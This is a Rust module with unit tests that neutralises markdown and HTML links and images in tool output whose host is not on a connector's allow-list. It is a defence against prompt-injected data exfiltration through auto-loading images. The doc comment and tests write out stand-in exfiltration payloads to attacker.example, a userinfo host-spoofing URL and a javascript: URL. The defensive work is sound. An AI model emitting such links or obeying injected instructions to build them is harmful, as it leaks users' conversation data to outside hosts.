//! Markdown and HTML links and images in tool output whose host is not on the connector's
//! allow-list are neutralised (PI-1): the URL goes, the visible text stays.
//!
//! An image is fetched by the client as soon as the model's answer is rendered, so an image
//! whose URL the model was told to fill with conversation data leaks it with no click at all;
//! a link whose text hides its URL leaks it with one innocent-looking click. Both are replaced:
//! `![status](https://attacker.example/c?d=DATA)` becomes `status [image removed:
//! attacker.example]`. Handled forms: inline `![alt](url)` and `[text](url)`, reference
//! definitions `[ref]: url` (which reference-style links and images use), and HTML `<img>`,
//! `<a>`, `<iframe>`, `<source>` and `<video>`/`<audio>` tags with `src`, `href`, `srcset` or
//! `poster`. Bare URLs and `<https://...>` autolinks stay: the reader sees the whole URL before
//! following it, which is exactly what a hidden link denies them.
//!
//! URLs are parsed as a browser would (the `url` crate implements the WHATWG URL standard), so
//! `https://docs.example.com@attacker.example/` is seen as going to `attacker.example`.
//! Relative URLs stay (they have no other host to go to); `data:` images stay (they load
//! nothing); any other scheme than http(s) (`javascript:`, `mailto:`, `file:`...) is removed.

use std::net::IpAddr;

use memchr::memmem;

/// One neutralised link or image.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Removed {
    /// Byte span in the input of what was replaced.
    pub(crate) start: usize,
    /// End of it (exclusive).
    pub(crate) end: usize,
}

/// Where a URL may go: the connector's egress allow-list (exact host names, `*.suffix`, IP
/// addresses, CIDRs), as in `ValidEgress::allow`.
pub(crate) struct Hosts<'a> {
    allow: &'a [String],
}

impl<'a> Hosts<'a> {
    pub(crate) fn new(allow: &'a [String]) -> Self {
        Self { allow }
    }

    /// Whether `host` (lowercase, without brackets for IPv6) is allowed.
    pub(crate) fn allows(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.');
        let ip: Option<IpAddr> = host.parse().ok();
        self.allow.iter().any(|a| {
            let a = a.trim().trim_end_matches('.');
            if let Some(suffix) = a.strip_prefix("*.") {
                return host.len() > suffix.len()
                    && host.ends_with(suffix)
                    && host.as_bytes()[host.len() - suffix.len() - 1] == b'.';
            }
            if let Some(ip) = ip {
                if let Ok(net) = a.parse::<ipnet::IpNet>() {
                    return net.contains(&ip);
                }
                if let Ok(one) = a.parse::<IpAddr>() {
                    return one == ip;
                }
            }
            a.eq_ignore_ascii_case(host)
        })
    }
}

/// What to do with one URL.
enum Verdict {
    Keep,
    /// Remove; the label names where it went (`attacker.example`, or the scheme).
    Remove(String),
}

fn judge(url: &str, image: bool, hosts: &Hosts<'_>) -> Verdict {
    let url = url.trim().trim_matches(|c| c == '<' || c == '>');
    let lower_start: String = url
        .chars()
        .take(12)
        .collect::<String>()
        .to_ascii_lowercase();
    if image && lower_start.starts_with("data:") {
        return Verdict::Keep;
    }
    let parsed = if url.starts_with("//") {
        url::Url::parse(&format!("https:{url}"))
    } else {
        url::Url::parse(url)
    };
    match parsed {
        // No scheme: a relative URL, resolved against the page it is on.
        Err(url::ParseError::RelativeUrlWithoutBase) => Verdict::Keep,
        // Browsers would not follow what does not parse either; nothing to neutralise, but a
        // string that looks like a scheme and fails to parse is removed, to be safe.
        Err(_) => {
            if url.contains(':') || url.starts_with("//") {
                Verdict::Remove("invalid URL".into())
            } else {
                Verdict::Keep
            }
        }
        Ok(u) => match u.scheme() {
            "http" | "https" => match u.host() {
                Some(url::Host::Domain(d)) => {
                    let d = d.to_ascii_lowercase();
                    if hosts.allows(&d) {
                        Verdict::Keep
                    } else {
                        Verdict::Remove(d)
                    }
                }
                Some(url::Host::Ipv4(ip)) => {
                    let s = ip.to_string();
                    if hosts.allows(&s) {
                        Verdict::Keep
                    } else {
                        Verdict::Remove(s)
                    }
                }
                Some(url::Host::Ipv6(ip)) => {
                    let s = ip.to_string();
                    if hosts.allows(&s) {
                        Verdict::Keep
                    } else {
                        Verdict::Remove(s)
                    }
                }
                None => Verdict::Remove("invalid URL".into()),
            },
            other => Verdict::Remove(format!("{other} URL")),
        },
    }
}

/// Whether a URL (found by the detector, say) stays under the same rules: an http(s) URL to an
/// allowed host, or a relative one.
pub(crate) fn url_allowed(url: &str, hosts: &Hosts<'_>) -> bool {
    matches!(judge(url, false, hosts), Verdict::Keep)
}

fn notice(image: bool, label: &str) -> String {
    // The label is a host name, an address or a scheme; anything else in it is dropped so that
    // it cannot form markup of its own.
    let label: String = label
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | ' '))
        .take(100)
        .collect();
    if image {
        format!("[image removed: {label}]")
    } else {
        format!("[link removed: {label}]")
    }
}

/// Neutralises what must be in `s`; returns the new text and what was removed (None when
/// nothing was). Cheap when `s` holds no `](`, `]:` or `<`.
pub(crate) fn neutralize(s: &str, hosts: &Hosts<'_>) -> Option<(String, Vec<Removed>)> {
    let b = s.as_bytes();
    let has_md = memmem::find(b, b"](").is_some() || memmem::find(b, b"]:").is_some();
    let has_html = memchr::memchr(b'<', b).is_some();
    if !has_md && !has_html {
        return None;
    }
    let mut edits: Vec<(usize, usize, String)> = Vec::new();
    if has_md {
        markdown_inline(s, hosts, &mut edits, 0);
        markdown_definitions(s, hosts, &mut edits);
    }
    if has_html {
        html_tags(s, hosts, &mut edits);
    }
    if edits.is_empty() {
        return None;
    }
    edits.sort_by_key(|e| (e.0, std::cmp::Reverse(e.1)));
    let mut out = String::with_capacity(s.len());
    let mut removed = Vec::new();
    let mut pos = 0;
    for (start, end, text) in edits {
        if start < pos {
            // Inside an edit already made (an HTML tag inside a markdown link's text).
            continue;
        }
        out.push_str(&s[pos..start]);
        out.push_str(&text);
        removed.push(Removed { start, end });
        pos = end;
    }
    out.push_str(&s[pos..]);
    Some((out, removed))
}

/// How deep link texts are neutralised in turn (`[a [b](u1)](u2)`); deeper text is dropped.
const MAX_NESTING: usize = 4;

/// Inline links and images: `[text](url "title")`, `![alt](url)`.
fn markdown_inline(
    s: &str,
    hosts: &Hosts<'_>,
    edits: &mut Vec<(usize, usize, String)>,
    depth: usize,
) {
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(rel) = memmem::find(&b[from..], b"](") {
        let close = from + rel; // index of ']'
        from = close + 2;
        let Some(open) = matching_open(b, close) else {
            continue;
        };
        let Some((url_start, url_end, end)) = link_destination(b, close + 2) else {
            continue;
        };
        let image = open > 0 && b[open - 1] == b'!';
        let start = if image { open - 1 } else { open };
        // An edit inside this link (a link in its text) is superseded: the text is
        // neutralised again below. One that straddles its boundary wins.
        if edits
            .iter()
            .any(|e| start < e.1 && e.0 < end && !(start <= e.0 && e.1 <= end))
        {
            continue;
        }
        let url = &s[url_start..url_end];
        if let Verdict::Remove(label) = judge(url, image, hosts) {
            let text = &s[open + 1..close];
            let visible = if depth < MAX_NESTING {
                match neutralize_nested(text, hosts, depth + 1) {
                    Some(t) => t,
                    None => text.to_string(),
                }
            } else {
                String::new()
            };
            let visible = visible.trim();
            edits.retain(|e| !(start <= e.0 && e.1 <= end));
            let n = notice(image, &label);
            let replacement = if visible.is_empty() {
                n
            } else {
                format!("{visible} {n}")
            };
            edits.push((start, end, replacement));
            from = end;
        }
    }
}

fn neutralize_nested(s: &str, hosts: &Hosts<'_>, depth: usize) -> Option<String> {
    memmem::find(s.as_bytes(), b"](")?;
    let mut edits = Vec::new();
    markdown_inline(s, hosts, &mut edits, depth);
    if edits.is_empty() {
        return None;
    }
    edits.sort_by_key(|e| e.0);
    let mut out = String::new();
    let mut pos = 0;
    for (start, end, text) in edits {
        if start < pos {
            continue;
        }
        out.push_str(&s[pos..start]);
        out.push_str(&text);
        pos = end;
    }
    out.push_str(&s[pos..]);
    Some(out)
}

/// The `[` matching the `]` at `close`, within one paragraph and 2,000 bytes.
fn matching_open(b: &[u8], close: usize) -> Option<usize> {
    let mut depth = 0usize;
    let lo = close.saturating_sub(2000);
    let mut i = close;
    while i > lo {
        i -= 1;
        match b[i] {
            b']' if !escaped(b, i) => depth += 1,
            b'[' if !escaped(b, i) => {
                if depth == 0 {
                    return Some(i);
                }
                depth -= 1;
            }
            b'\n' if i > 0 && b[i - 1] == b'\n' => return None,
            _ => {}
        }
    }
    None
}

fn escaped(b: &[u8], i: usize) -> bool {
    let mut n = 0;
    let mut j = i;
    while j > 0 && b[j - 1] == b'\\' {
        n += 1;
        j -= 1;
    }
    n % 2 == 1
}

/// The destination after `](`: `(url_start, url_end, end)` with `end` just past the `)`.
fn link_destination(b: &[u8], mut i: usize) -> Option<(usize, usize, usize)> {
    while i < b.len() && (b[i] == b' ' || b[i] == b'\t' || b[i] == b'\n') {
        i += 1;
    }
    let (url_start, url_end);
    if i < b.len() && b[i] == b'<' {
        url_start = i + 1;
        let rel = memchr::memchr(b'>', &b[url_start..])?;
        url_end = url_start + rel;
        i = url_end + 1;
    } else {
        url_start = i;
        let mut depth = 0usize;
        while i < b.len() {
            match b[i] {
                b'(' => depth += 1,
                b')' if depth == 0 => break,
                b')' => depth -= 1,
                b' ' | b'\t' | b'\n' => break,
                _ => {}
            }
            i += 1;
        }
        url_end = i;
    }
    // An optional title, then `)`; at most 2,000 bytes on.
    let limit = (i + 2000).min(b.len());
    let rel = memchr::memchr(b')', &b[i..limit])?;
    let end = i + rel + 1;
    if url_start == url_end {
        return None;
    }
    Some((url_start, url_end, end))
}

/// Reference definitions: `[ref]: url` at the start of a line (up to three spaces in).
fn markdown_definitions(s: &str, hosts: &Hosts<'_>, edits: &mut Vec<(usize, usize, String)>) {
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(rel) = memmem::find(&b[from..], b"]:") {
        let colon = from + rel + 1;
        from = colon + 1;
        let line_start = b[..colon]
            .iter()
            .rposition(|&c| c == b'\n')
            .map_or(0, |p| p + 1);
        let lead = b[line_start..].iter().take_while(|&&c| c == b' ').count();
        if lead > 3 || b.get(line_start + lead) != Some(&b'[') {
            continue;
        }
        let mut i = colon + 1;
        while i < b.len() && (b[i] == b' ' || b[i] == b'\t') {
            i += 1;
        }
        let url_start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() {
            i += 1;
        }
        if url_start == i {
            continue;
        }
        let url = &s[url_start..i];
        // A definition serves links and images alike: judge it as a link (stricter for data:).
        if let Verdict::Remove(label) = judge(url, false, hosts) {
            edits.push((url_start, i, notice(false, &label)));
        }
    }
}

/// HTML tags that load or link a URL.
fn html_tags(s: &str, hosts: &Hosts<'_>, edits: &mut Vec<(usize, usize, String)>) {
    const TAGS: &[&str] = &["img", "a", "iframe", "source", "video", "audio", "image"];
    const ATTRS: &[&str] = &["src", "href", "srcset", "poster", "xlink:href"];
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(rel) = memchr::memchr(b'<', &b[from..]) {
        let lt = from + rel;
        from = lt + 1;
        let name_end = b[lt + 1..]
            .iter()
            .position(|c| !c.is_ascii_alphanumeric())
            .map_or(b.len(), |p| lt + 1 + p);
        let name = s[lt + 1..name_end].to_ascii_lowercase();
        if !TAGS.contains(&name.as_str()) {
            continue;
        }
        let Some(gt_rel) = tag_end(&b[name_end..]) else {
            continue;
        };
        let end = name_end + gt_rel + 1;
        let tag = &s[lt..end];
        let image = name != "a";
        let mut removed: Option<String> = None;
        for (attr, value) in attributes(&tag[1 + name.len()..]) {
            if !ATTRS.contains(&attr.as_str()) {
                continue;
            }
            let urls: Vec<&str> = if attr == "srcset" {
                value
                    .split(',')
                    .filter_map(|c| c.split_whitespace().next())
                    .collect()
            } else {
                vec![value.as_str()]
            };
            for u in urls {
                if let Verdict::Remove(label) = judge(&decode_entities(u), image, hosts) {
                    removed.get_or_insert(label);
                }
            }
        }
        if let Some(label) = removed {
            edits.push((lt, end, notice(image, &label)));
            from = end;
        }
    }
}

/// The offset of the `>` that ends a tag, skipping quoted attribute values.
fn tag_end(b: &[u8]) -> Option<usize> {
    let mut quote = None;
    for (i, &c) in b.iter().enumerate().take(8192) {
        match (quote, c) {
            (None, b'"' | b'\'') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (None, b'>') => return Some(i),
            _ => {}
        }
    }
    None
}

/// `name=value` pairs of a tag's attribute text, names lowercased, values unquoted.
fn attributes(s: &str) -> Vec<(String, String)> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/') {
            i += 1;
        }
        let ns = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'=' | b'>' | b'/') {
            i += 1;
        }
        if ns == i {
            i += 1;
            continue;
        }
        let name = s[ns..i].to_ascii_lowercase();
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        if i >= b.len() || b[i] != b'=' {
            out.push((name, String::new()));
            continue;
        }
        i += 1;
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        let value = if i < b.len() && (b[i] == b'"' || b[i] == b'\'') {
            let q = b[i];
            let vs = i + 1;
            let ve = b[vs..]
                .iter()
                .position(|&c| c == q)
                .map_or(b.len(), |p| vs + p);
            i = (ve + 1).min(b.len());
            &s[vs..ve]
        } else {
            let vs = i;
            while i < b.len() && !b[i].is_ascii_whitespace() && b[i] != b'>' {
                i += 1;
            }
            &s[vs..i]
        };
        out.push((name, value.to_string()));
    }
    out
}

/// The few character references that matter in a URL attribute (`&amp;`, `&#58;`, `&colon;`...).
fn decode_entities(s: &str) -> String {
    if !s.contains('&') {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(p) = rest.find('&') {
        out.push_str(&rest[..p]);
        rest = &rest[p..];
        let Some(semi) = rest[..rest.len().min(12)].find(';') else {
            out.push('&');
            rest = &rest[1..];
            continue;
        };
        let ent = &rest[1..semi];
        let decoded = match ent.to_ascii_lowercase().as_str() {
            "amp" => Some('&'),
            "colon" => Some(':'),
            "sol" => Some('/'),
            "quot" => Some('"'),
            "apos" => Some('\''),
            "lt" => Some('<'),
            "gt" => Some('>'),
            e if e.starts_with("#x") => u32::from_str_radix(&e[2..], 16)
                .ok()
                .and_then(char::from_u32),
            e if e.starts_with('#') => e[1..].parse().ok().and_then(char::from_u32),
            _ => None,
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = &rest[semi + 1..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(s: &str, allow: &[&str]) -> String {
        let allow: Vec<String> = allow.iter().map(|a| a.to_string()).collect();
        match neutralize(s, &Hosts::new(&allow)) {
            Some((out, removed)) => {
                assert!(!removed.is_empty());
                out
            }
            None => s.to_string(),
        }
    }

    #[test]
    fn images_and_links_off_the_list_are_neutralised() {
        assert_eq!(
            run(
                "see ![status](https://attacker.example/collect?d=DATA) now",
                &[]
            ),
            "see status [image removed: attacker.example] now"
        );
        assert_eq!(
            run(
                "[open the report](https://attacker.example/r?s=x \"title\").",
                &[]
            ),
            "open the report [link removed: attacker.example]."
        );
        assert_eq!(
            run("![](https://attacker.example/p.png)", &[]),
            "[image removed: attacker.example]"
        );
        // Userinfo does not fool the parser.
        assert_eq!(
            run(
                "[docs](https://docs.example.com@attacker.example/x)",
                &["docs.example.com"]
            ),
            "docs [link removed: attacker.example]"
        );
        assert_eq!(
            run("[x](javascript:alert(1))", &[]),
            "x [link removed: javascript URL]"
        );
        assert_eq!(
            run("[x](//attacker.example/a)", &[]),
            "x [link removed: attacker.example]"
        );
        // Nested link text is neutralised too.
        assert_eq!(
            run("[a [b](https://e1.example/) c](https://e2.example/)", &[]),
            "a b [link removed: e1.example] c [link removed: e2.example]"
        );
    }

    #[test]
    fn allowed_relative_and_data_stay() {
        for (t, allow) in [
            (
                "![d](https://docs.example.com/a.png?d=1)",
                &["docs.example.com"][..],
            ),
            (
                "![d](https://cdn.docs.example.com/a.png)",
                &["*.example.com"][..],
            ),
            ("[d](/guide) and [e](#top)", &[][..]),
            ("![d](data:image/png;base64,AAAA)", &[][..]),
            ("[d](https://10.1.2.3/x)", &["10.0.0.0/8"][..]),
            ("plain text without links, a < b", &[][..]),
            ("array[0](x) is code", &[][..]),
        ] {
            assert_eq!(run(t, allow), t, "{t}");
        }
        // `*.example.com` covers subdomains only.
        assert_eq!(
            run("![d](https://example.com/a.png)", &["*.example.com"]),
            "d [image removed: example.com]"
        );
    }

    #[test]
    fn reference_definitions_and_html() {
        assert_eq!(
            run("![s][r]\n\n[r]: https://attacker.example/c?d=X\n", &[]),
            "![s][r]\n\n[r]: [link removed: attacker.example]\n"
        );
        assert_eq!(
            run(
                "<p>hi <img src=\"https://attacker.example/x.gif?d=1\" alt=x> there</p>",
                &[]
            ),
            "<p>hi [image removed: attacker.example] there</p>"
        );
        assert_eq!(
            run("<A HREF='https://attacker.example/'>click</A>", &[]),
            "[link removed: attacker.example]click</A>"
        );
        assert_eq!(
            run("<img src=https&#58;//attacker.example/x>", &[]),
            "[image removed: attacker.example]"
        );
        assert_eq!(
            run(
                "<img srcset=\"/a.png 1x, https://attacker.example/b.png 2x\">",
                &[]
            ),
            "[image removed: attacker.example]"
        );
        let ok = "<a href=\"https://docs.example.com/\">docs</a> <img src=\"/logo.png\">";
        assert_eq!(run(ok, &["docs.example.com"]), ok);
    }

    #[test]
    fn hosts_match_exact_suffix_and_networks() {
        let allow: Vec<String> = ["docs.example.com", "*.cdn.example", "10.0.0.0/8", "::1"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let h = Hosts::new(&allow);
        assert!(h.allows("docs.example.com"));
        assert!(h.allows("docs.example.com."));
        assert!(!h.allows("xdocs.example.com"));
        assert!(h.allows("a.cdn.example"));
        assert!(!h.allows("cdn.example"));
        assert!(!h.allows("evilcdn.example"));
        assert!(h.allows("10.2.3.4"));
        assert!(!h.allows("11.2.3.4"));
        assert!(h.allows("::1"));
    }
}
